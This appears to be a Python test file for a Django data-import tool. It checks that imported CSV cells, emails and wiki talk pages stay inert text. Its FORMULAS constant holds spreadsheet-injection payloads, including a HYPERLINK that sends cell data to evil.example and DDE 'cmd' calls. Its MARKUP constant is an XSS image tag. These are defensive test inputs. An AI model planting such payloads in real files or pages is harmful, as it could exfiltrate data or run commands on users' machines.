"""What was brought in with bad intent or by bad programs goes through the ledger and out again: as words, nothing more.

docs/developer/importers.md names the test for each kind of bad input; those of readers alone are in tests/core/talk.
"""

import csv
import io
from pathlib import Path

from click.testing import CliRunner
from django.test import Client
from django.urls import reverse

from harken.__main__ import cli
from harken.core.talk.tables.formulas import unguard_cell
from harken.inputs.models import Input, Wording
from tests.cast import Cast, text_of

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
)
MARKUP = '<img src=x onerror="alert(1)">'


def bring_in(*arguments: str | Path, pipe: str | None = None) -> str:
    told = [str(argument) for argument in arguments]
    done = CliRunner().invoke(cli, ["import", *told, "--process", "open-garden"], input=pipe)
    assert done.exit_code == 0, done.output
    return done.output


def test_formulas_of_a_table_stay_words_and_no_export_carries_them_on(
    cast: Cast, amina: Client, tmp_path: Path
) -> None:
    table = tmp_path / "survey.csv"
    with table.open("w", encoding="utf-8", newline="") as stream:
        writer = csv.writer(stream)
        writer.writerow(("Name", "What would you keep?"))
        writer.writerows((text, f"{text} and the rest") for text in FORMULAS)
    assert "4 inputs added" in bring_in("table", table)
    assert set(Wording.objects.values_list("speaker_name", flat=True)) == set(FORMULAS)
    exported = amina.get(reverse("inputs-csv", args=["open-garden"])).getvalue().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(exported)))
    assert len(rows) == 5
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
    assert set(FORMULAS) <= {unguard_cell(cell) for row in rows for cell in row}


def test_a_name_and_words_that_are_markup_are_shown_as_they_stand(cast: Cast, client: Client, tmp_path: Path) -> None:
    table = tmp_path / "survey.csv"
    with table.open("w", encoding="utf-8", newline="") as stream:
        writer = csv.writer(stream)
        writer.writerows((("Name", "What would you keep?"), (MARKUP, f"{MARKUP} The roses and the old gate.")))
    bring_in("table", table)
    assert Wording.objects.get().speaker_name == MARKUP
    for page in (
        reverse("inputs", args=["open-garden"]),
        reverse("input", args=["open-garden", Input.objects.get().pk]),
    ):
        shown = text_of(client, page)
        assert MARKUP not in shown
        assert "<img src=x" not in shown
        assert "&lt;img src=x onerror=" in shown


def test_mail_without_an_id_comes_in_once_however_often_it_is_sent(cast: Cast) -> None:
    letter = "From: Ann <ann@example.org>\nDate: Fri, 9 Aug 2019 10:00:00 +0000\nSubject: Water\n\nAt night.\n"
    for added in (1, 0):
        assert f"{added} inputs added" in bring_in("mail", "-", pipe=letter)
    assert "1 inputs added" in bring_in("mail", "-", pipe=letter.replace("night", "noon"))


def test_a_speaker_named_in_a_forwarded_message_has_not_spoken(cast: Cast) -> None:
    letter = (
        "From: Eve <eve@example.org>\nDate: Fri, 9 Aug 2019 10:00:00 +0000\nMessage-ID: <a@x>\nSubject: Fwd: Water\n"
        "X-Original-From: Mayor <mayor@example.org>\nResent-From: Mayor <mayor@example.org>\n\n"
        "See below.\n\n---------- Forwarded message ---------\nFrom: Mayor <mayor@example.org>\n"
        "Date: Fri, 9 Aug 2019 09:00:00 +0000\nSubject: Water\n\nDig it all up.\n"
    )
    bring_in("mail", "-", pipe=letter)
    said = Wording.objects.get()
    assert (said.speaker_name, said.speaker_account, said.text) == ("Eve", "eve@example.org", "See below.")
    assert "Dig it all up." in said.extra["quoted"]


def test_a_page_of_forged_missing_and_deep_posts_comes_in_whole(cast: Cast, tmp_path: Path) -> None:
    signed = "[[User:Ann|Ann]] 10:00, 9 August 2019 (UTC)"
    page = tmp_path / "page.txt"
    deep = f"{':' * 10_000} Very deep. {signed.replace('Ann', 'Ben')}\n"
    tables = "{|\n|\n" * 50 + f"In a table. {signed.replace('Ann', 'Dan')}\n" + "|}\n" * 50
    page.write_text(f"== Water ==\nAt night. {signed}\n{deep}{tables}I do not sign.\n", encoding="utf-8")
    told = bring_in("talk", page)
    assert "3 inputs added" in told
    assert "nobody signed this, so it was left out: I do not sign." in told
    assert set(Wording.objects.values_list("speaker_name", "text")) == {
        ("Ann", "At night."),
        ("Ben", "Very deep."),
        ("Dan", "In a table."),
    }
